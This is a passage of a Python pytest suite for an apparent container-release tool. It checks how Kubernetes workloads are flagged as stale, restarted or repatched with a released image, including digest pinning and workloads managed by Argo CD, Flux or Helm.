        again = image(f"{APP}:stable", OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG)
        own = workload(container(f"{APP}:stable"))
        assert info([own], [pod(f"{APP}@{OTHER}")], [image(f"{APP}:{NEW}"), again], released=[f"{APP}:{NEW}"])["ok"]
        again["reference"] = f"{APP}:{OLD}"
        own = workload(container(f"{APP}:{OLD}"))
        assert info([own], [pod(f"{APP}@{OTHER}")], [image(f"{APP}:{NEW}"), again], released=[f"{APP}:{NEW}"])["ok"]

    @pytest.mark.parametrize("pods", [[pod(f"{APP}@{OTHER}")], []], ids=["stale", "no pods yet"])
    def test_a_tag_that_the_release_does_not_list(self, pods: list[Dict]) -> None:
        """Its restart starts the release, also in check mode."""
        found = info([workload()], pods, RELEASE_IMAGES, released=[f"{APP}:{NEW}"])
        assert found["problems"] == [each["problem"] for each in found["workloads"] if each["problem"]]

    def test_the_remedy(self) -> None:
        own = workload(container(f"{APP}:{OLD}"))
        found = info([own], [pod(f"{APP}@{OTHER}")], RELEASE_IMAGES, released=[f"{APP}:{NEW}"])
        assert found["problems"] == [
            (
                f"deployment/app: container app names {APP}:{OLD}, but {APP}:{NEW} was released; set its image, let"
                " zot_release_set_image or zot_rollout_set_image set it, or leave the workload out with"
                " zot_rollout_workloads or zot_rollout_label_selectors"
            )
        ]
        assert found["workloads"][0]["patch"] is None

    def test_a_tag_that_another_job_has_moved(self) -> None:
        """The workload is current by its tag, but the tag is not the release any more."""
        images = [image(f"{APP}:{NEW}", OTHER, amd64=digest(1)), image()]
        found = info([workload()], [pod(f"{APP}@{INDEX}")], images, released=RELEASED)
        (problem,) = found["problems"]
        assert problem.startswith(f"{APP}:{NEW} and {APP}:latest were released together, but they are ")

    @pytest.mark.parametrize("set_image", ["false", "true"])
    @pytest.mark.parametrize("replicas", [1, 0])
    def test_a_revision_that_a_release_without_a_revision_cannot_replace(self, replicas: int, set_image: str) -> None:
        own = [workload(), workload(container(f"{APP}:{OLD}"), name="other", replicas=replicas)]
        pods = [pod(f"{APP}@{INDEX}"), *[pod(f"{APP}@{OTHER}", of="other")] * replicas]
        released = [f"{APP}:latest"]
        found = info(own, pods, RELEASE_IMAGES, released=released, set_image=set_image)
        (problem,) = found["problems"]
        assert problem.startswith(
            f"deployment/other: container app names {APP}:{OLD}, but {APP}:latest was released; no revision was"
            " released that could replace it: set its image, or leave"
        )
        planned = info(own, pods, RELEASE_IMAGES, released=released, assume_pushed=released, set_image=set_image)
        assert found["problems"][0] in planned["problems"]

    @pytest.mark.parametrize("tag", ["latest", NEW, "stable"])
    def test_a_tag_that_a_release_without_a_revision_need_not_replace(self, tag: str) -> None:
        """It has the same image, or is another shared tag."""
        own = [workload(), workload(container(f"{APP}:{tag}"), name="other")]
        pods = [pod(f"{APP}@{INDEX}"), pod(f"{APP}@{OTHER if tag == 'stable' else INDEX}", of="other")]
        assert info(own, pods, RELEASE_IMAGES, released=[f"{APP}:latest"], set_image="true")["problems"] == []

    def test_a_stale_workload_is_one_problem(self) -> None:
        """Not also one of the image: the restart starts it. It changes no image, which Helm would revert."""
        own = workload(metadata={"labels": {"app.kubernetes.io/managed-by": "Helm"}})
        found = info([own], [pod(f"{APP}@{OTHER}")], RELEASE_IMAGES, released=RELEASED, set_image="true")
        assert (found["problems"], action(found["workloads"][0])) == ([found["workloads"][0]["problem"]], "restart")

    @pytest.mark.parametrize("policy", ["Always", "IfNotPresent", "Never"])
    @pytest.mark.parametrize("text", ["latest", f"latest@{OTHER}"])
    def test_a_digest_is_set_where_a_restart_does_not_pull(self, policy: str, text: str) -> None:
        own, running = workload(container(f"{APP}:{text}", policy)), pod(f"{APP}@{OTHER}")
        is_restart = (policy, text) == ("Always", "latest")
        refused = one(own, running, images=RELEASE_IMAGES, released=RELEASED)
        assert action(refused) == ("restart" if is_restart else "blocked")
        assert is_restart or "zot_release_set_image" in refused["problem"]
        entry = one(own, running, images=RELEASE_IMAGES, released=RELEASED, set_image="true")
        expected = [] if is_restart else [f"container app: {APP}:{text} -> {APP}:latest@{INDEX}"]
        assert entry["changes"] == expected

    def test_an_image_that_was_not_published(self) -> None:
        found = info([workload()], [pod(f"{APP}@{INDEX}")], [image()], released=RELEASED)
        assert found["problems"] == [f"{APP}:{NEW} was released, but it is not in the registry: publish it first"]

    def test_a_dry_run(self) -> None:
        """What would be pushed has no digest yet."""
        found = info([workload()], [pod(f"{APP}@{INDEX}")], released=RELEASED, assume_pushed=RELEASED)
        assert found["problems"] == [found["workloads"][0]["problem"]]

    @pytest.mark.parametrize(
        ("released", "message"),
        [
            (["ghcr.io/a/b:1"], "ghcr.io/a/b:1 is not an image of oci.killinit.cc"),
            (["UPPER:1"], "'UPPER' is not a valid repository"),
            ([5349], "images[0] is the number 5349, not text: quote it"),
        ],
    )
    def test_what_cannot_be_a_release(self, released: list[str], message: str) -> None:
        with pytest.raises(ZotError) as caught:
            info([workload()], released=released)
        assert (caught.value.error_class, message in str(caught.value)) == ("invalid_option", True)


ARGO_CD: Dict = {"annotations": {"argocd.argoproj.io/tracking-id": "app:apps/Deployment:ns/app"}}


class TestSetImage:
    """The option set_image."""

    def test_sets_the_released_revision(self) -> None:
        own = workload(container(f"{APP}:{OLD}", "IfNotPresent"), init=[container(f"{APP}:stable", name="setup")])
        own["spec"]["template"]["metadata"] = {"annotations": {CONTAINERS: json.dumps({"app": OTHER})}}
        running = pod(f"{APP}@{OTHER}", init={"setup": f"{APP}@{OTHER}"})
        found = info([own], [running], RELEASE_IMAGES, released=RELEASED, set_image="true")
        (entry,) = found["workloads"]
        assert (entry["status"], entry["reason"]) == (
            "stale",
            f"container app names {APP}:{OLD}, but {APP}:{NEW} was released",
        )
        assert entry["patch"]["spec"]["template"] == {
            "metadata": {"annotations": {RESTARTED_AT: STAMP, CONTAINERS: json.dumps({"app": INDEX, "setup": OTHER})}},
            "spec": {"containers": [{"name": "app", "image": f"{APP}:{NEW}"}]},
        }
        assert entry["changes"] == [f"container app: {APP}:{OLD} -> {APP}:{NEW}"]
        # The patch starts the image, so that it is no problem of its own.
        assert found["problems"] == [entry["problem"]]

    @pytest.mark.parametrize(
        ("tag", "set_to"),
        [
            ("stable", None),
            ("latest", None),
            (NEW, None),
            (OLD, NEW),
            ("0" * 40, NEW),
            (f"{OLD}-amd64", None),
            ("1.4.2", None),
            ("v2", None),
            (f"{OLD}@{OTHER}", f"{NEW}@{INDEX}"),
        ],
    )
    def test_which_tags_are_another_revision(self, tag: str, set_to: str | None) -> None:
        own = workload(container(f"{APP}:{tag}"))
        images = [*RELEASE_IMAGES, *(image(f"{APP}:{each}") for each in ("0" * 40, f"{OLD}-amd64", "1.4.2", "v2"))]
        running = INDEX if set_to is None and tag != "stable" else OTHER
        entry = one(own, pod(f"{APP}@{running}"), images=images, released=RELEASED, set_image="true")
        images_set = (entry["patch"] or {"spec": {"template": {}}})["spec"]["template"].get("spec")
        assert images_set == (None if set_to is None else {"containers": [{"name": "app", "image": f"{APP}:{set_to}"}]})

    @pytest.mark.parametrize(("own", "set_to"), [(OTHER, f"{APP}:{NEW}@{INDEX}"), (INDEX, None)])
    def test_a_digest_without_a_tag(self, own: str, set_to: str | None) -> None:
        """It is replaced if it is not the released image."""
        images = [*RELEASE_IMAGES, image(f"{APP}@{OTHER}", OTHER, amd64=digest(1)), image(f"{APP}@{INDEX}")]
        found = one(
            workload(container(f"{APP}@{own}")), pod(f"{APP}@{own}"), images=images, released=RELEASED, set_image="true"
        )
        images_set = (found["patch"] or {"spec": {"template": {}}})["spec"]["template"].get("spec")
        assert images_set == (None if set_to is None else {"containers": [{"name": "app", "image": set_to}]})

    @pytest.mark.parametrize(
        ("old", "new", "is_set"),
        [
            ("1.4.1", "1.4.2", True),
            ("1.9.9", "1.10.0", True),
            ("1.4.2-rc1", "1.4.2", False),
            ("stable", "1.4.2", False),
        ],
    )
    def test_tags_of_one_form_are_revisions(self, old: str, new: str, is_set: bool) -> None:
        images = [image(f"{APP}:{new}"), image(f"{APP}:{old}", OTHER, amd64=digest(1))]
        own = workload(container(f"{APP}:{old}"))
        entry = one(own, pod(f"{APP}@{OTHER}"), images=images, released=[f"{APP}:{new}"], set_image="true")
        assert (entry["patch"] is not None) is is_set

    @pytest.mark.parametrize(("more", "is_set"), [([], True), ([f"{APP}:1.5.0"], False)])
    def test_a_short_version_beside_a_revision_is_a_shared_tag(self, more: list[str], is_set: bool) -> None:
        """A workload that follows 1.4 does not follow 1.5, unless the release has no other revision."""
        images = [image(f"{APP}:{tag}") for tag in ("1.5", "1.5.0")] + [image(f"{APP}:1.4", OTHER, amd64=digest(1))]
        own, running = workload(container(f"{APP}:1.4")), pod(f"{APP}@{OTHER}")
        entry = one(own, running, images=images, released=[f"{APP}:1.5", *more], set_image="true")
        assert (entry["patch"] is not None) is is_set

    def test_sets_a_volume(self) -> None:
        images = [image(f"{DATA}:{NEW}"), image(f"{DATA}:{OLD}", OTHER, amd64=digest(1))]
        own = workload(FOREIGN, volumes=[volume(f"{DATA}:{OLD}")])
        entry = one(own, pod("x"), images=images, released=[f"{DATA}:{NEW}"], set_image="true")
        assert entry["patch"]["spec"]["template"]["spec"] == {
            "volumes": [{"name": "workspace", "image": {"reference": f"{DATA}:{NEW}"}}]
        }

    def test_a_pruned_revision_is_replaced(self) -> None:
        """It is not in the registry any more."""
        own, images = workload(container(f"{APP}:{OLD}")), [image(f"{APP}:{NEW}")]
        entry = one(own, pod(f"{APP}@{OTHER}"), images=images, released=[f"{APP}:{NEW}"], set_image="true")
        assert entry["status"] == "stale"

    @pytest.mark.parametrize(
        ("metadata", "who"),
        [
            (ARGO_CD, "Argo CD reverts it"),
            ({"labels": {"argocd.argoproj.io/instance": "app"}}, "Argo CD reverts it"),
            ({"labels": {"kustomize.toolkit.fluxcd.io/name": "app"}}, "Flux reverts it"),
            ({"labels": {"helm.toolkit.fluxcd.io/name": "app"}}, "Flux reverts it"),
            ({"labels": {"app.kubernetes.io/managed-by": "Helm"}}, "the next helm upgrade reverts it"),
            ({"annotations": {"meta.helm.sh/release-name": "app"}}, "the next helm upgrade reverts it"),
            ({"labels": {"app.kubernetes.io/managed-by": "kustomize"}}, None),
        ],
    )
    def test_who_manages_the_workload(self, metadata: Dict, who: str | None) -> None:
        own, running = workload(container(f"{APP}:{OLD}"), metadata=metadata), pod(f"{APP}@{OTHER}")
        for set_image in ("true", "force"):
            entry = one(own, running, images=RELEASE_IMAGES, released=RELEASED, set_image=set_image)
            assert (entry["patch"] is not None) is (who is None or set_image == "force")
            assert (who or "revert") in entry["reason"] if who else "revert" not in entry["reason"]

    @pytest.mark.parametrize(
        "own",
        [
            pytest.param(workload(container(policy="IfNotPresent"), metadata=ARGO_CD), id="IfNotPresent"),
            pytest.param(workload(container(f"{APP}:latest@{OTHER}"), metadata=ARGO_CD), id="digest"),
            pytest.param(cronjob(container(f"{APP}:latest@{OTHER}"), metadata=ARGO_CD), id="CronJob"),
        ],
    )
    @pytest.mark.parametrize("set_image", ["false", "true", "force"])
    def test_a_managed_workload_is_pinned_only_with_force(self, own: Dict, set_image: str) -> None:
        """A pin sets the image, too."""
        images = [image(), image(f"{APP}@{OTHER}", OTHER, amd64=digest(1))]
        pods = [] if own["kind"] == "CronJob" else [pod(f"{APP}@{OTHER}")]
        entry = one(own, *pods, images=images, pin=True, set_image=set_image)
        refusal = "; the image was not set, since Argo CD reverts it: change it in the source of the workload, or"
        if set_image == "force":
            assert entry["patch"]
            assert entry["reason"].endswith("; set_image is force, but Argo CD reverts it")
        else:
            assert (entry["patch"], entry["changes"]) == (None, [])
            assert entry["problem"].endswith(f"{refusal} set_image: force")

    def test_a_dry_run(self) -> None:
        own = workload(container(f"{APP}:{OLD}"))
        images = [image(f"{APP}:{OLD}", OTHER, amd64=digest(1))]
        found = info(
            [own], [pod(f"{APP}@{OTHER}")], images, released=RELEASED, assume_pushed=RELEASED, set_image="true"
        )
        (entry,) = found["workloads"]
        assert entry["patch"]["spec"]["template"]["spec"]["containers"] == [{"name": "app", "image": f"{APP}:{NEW}"}]
        assert found["problems"] == [entry["problem"]]
